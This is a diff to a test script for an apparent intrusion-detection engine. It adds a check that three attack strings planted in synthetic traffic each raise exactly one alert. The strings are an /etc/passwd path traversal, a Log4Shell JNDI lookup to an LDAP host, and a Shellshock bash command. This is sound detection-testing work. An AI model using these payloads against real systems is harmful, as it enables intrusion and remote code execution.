@@ -38,9 +38,34 @@ grep -q "bad.rules:4:42: conten: unsupported keyword" "$WORK/err" && ok "unknown
 grep -q "bad.rules:6:7: sid: duplicate sid 1:1" "$WORK/err" && ok "duplicate sid on its continuation line" ||
 	fail "duplicate sid error: $(cat "$WORK/err")"
 check_eq "-T summary line" "1 rules loaded, 3 rules failed" "$(tail -n 1 "$WORK/out")"
-expect_exit "a run with rules is refused until matching lands" 2 \
-	"$MAMORI" -S "$WORK/bad.rules" -r /dev/null
-grep -q "not implemented" "$WORK/err" && ok "the refusal says why" || fail "message: $(cat "$WORK/err")"
+
+# ground truth: gen-traffic plants three attack strings; rules/mamori.rules
+# must raise exactly one alert for each, on the planted flow, and nothing else
+"$GEN_TRAFFIC" -o "$WORK/plant.pcap" --flows 200 --seed 1 --truth "$WORK/truth.jsonl" \
+	--plant '../../../../etc/passwd@3:20' \
+	--plant '${jndi:ldap://198.51.100.7:1389/a}@7:30' \
+	--plant '() { :; }; /bin/bash -c id@11:40' 2>/dev/null
+mkdir -p "$WORK/alerts"
+expect_exit "run with rules/mamori.rules" 0 "$MAMORI" -r "$WORK/plant.pcap" \
+	-S "$TOP_SRCDIR/rules/mamori.rules" -l "$WORK/alerts" -q \
+	--set default-rule-path="$TOP_SRCDIR/rules"
+python3 - "$WORK/truth.jsonl" "$WORK/alerts/eve.json" <<'PY' && ok "planted attacks raise exactly their alerts" || fail "alerts differ from ground truth"
+import json, sys
+want = {"../../../../etc/passwd": 9000001, "${jndi:ldap://198.51.100.7:1389/a}": 9000002,
+        "() { :; }; /bin/bash -c id": 9000003}
+truth = [json.loads(l) for l in open(sys.argv[1])]
+expect = sorted((want[t["pattern"]], t["src_ip"], t["src_port"], t["dest_ip"], t["dest_port"]) for t in truth)
+alerts = [r for r in map(json.loads, open(sys.argv[2])) if r["event_type"] == "alert"]
+got = sorted((a["alert"]["signature_id"], a["src_ip"], a["src_port"], a["dest_ip"], a["dest_port"]) for a in alerts)
+print("expected", expect)
+print("got     ", got)
+assert got == expect
+for a in alerts:
+    assert a["flow_id"] > 0 and a["community_id"].startswith("1:")
+    assert a["alert"]["severity"] == 1 and a["alert"]["category"]
+    assert a["payload"] and a["payload_printable"]
+PY
+check_eq "detect.alert counts them" 3 "$(stats_field "$WORK/alerts/eve.json" detect.alert)"
 et="$MAMORI_CORPUS/rules/et-open/emerging-exploit.rules"
 if [ -f "$et" ]; then
 	expect_exit "-T on ET Open's emerging-exploit.rules" 0 "$MAMORI" -T -S "$et"
